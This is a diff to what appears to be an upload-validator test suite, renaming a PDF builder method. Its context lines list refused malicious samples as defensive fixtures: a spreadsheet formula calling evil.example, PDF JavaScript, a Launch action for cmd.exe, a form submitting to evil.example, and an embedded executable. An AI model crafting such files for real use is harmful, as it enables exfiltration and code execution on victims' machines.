@@ -32,7 +32,7 @@ EXE = b"MZ\x90\0" + bytes(60) + b"This program cannot be run in DOS mode." + byt
 
 
 def _pdf(**keys: str) -> bytes:
-    return Pdf(HELLO, **keys).bytes()
+    return Pdf(HELLO, **keys).file()
 
 
 def _locked_pdf() -> bytes:
@@ -116,7 +116,7 @@ def _action(action: str) -> bytes:
 
 
 def _note(keys: str) -> bytes:
-    return Pdf(HELLO, page="/Annots [30 0 R]").set(30, f"<< /Type /Annot /Rect [0 0 9 9] {keys} >>").bytes()
+    return Pdf(HELLO, page="/Annots [30 0 R]").set(30, f"<< /Type /Annot /Rect [0 0 9 9] {keys} >>").file()
 
 
 def _linked(kind: str, target: str) -> bytes:
@@ -235,7 +235,7 @@ REFUSED: dict[str, Upload] = {
     "formula that reads the web": ("a.xlsx", lambda: _calculated('WEBSERVICE("http://evil.example")'), "公式"),
     # active PDFs
     "script of a pdf": ("a.pdf", lambda: _action("/S /JavaScript /JS (app.alert(1))"), "脚本"),
-    "script as a stream": ("a.pdf", lambda: Pdf(HELLO, catalogue="/OpenAction << /S /JavaScript /JS 30 0 R >>").stream(30, b"a()").bytes(), "脚本"),
+    "script as a stream": ("a.pdf", lambda: Pdf(HELLO, catalogue="/OpenAction << /S /JavaScript /JS 30 0 R >>").stream(30, b"a()").file(), "脚本"),
     "start of a program": ("a.pdf", lambda: _action("/S /Launch /F (cmd.exe)"), "启动"),
     "form that sends": ("a.pdf", lambda: _action("/S /SubmitForm /F (http://evil.example)"), "启动"),
     "link to another pdf": ("a.pdf", lambda: _action("/S /GoToR /F (\\\\\\\\host\\\\a.pdf)"), "启动"),
@@ -247,7 +247,7 @@ REFUSED: dict[str, Upload] = {
         lambda: Pdf(HELLO, catalogue="/Names << /EmbeddedFiles << /Names [(a) 30 0 R] >> >>")
         .set(30, "<< /Type /Filespec /F (a.exe) /EF << /F 31 0 R >> >>")
         .stream(31, EXE, "/Type /EmbeddedFile")
-        .bytes(),
+        .file(),
         "程序",
     ),
     "pdf without pages": ("a.pdf", lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF", "PDF"),
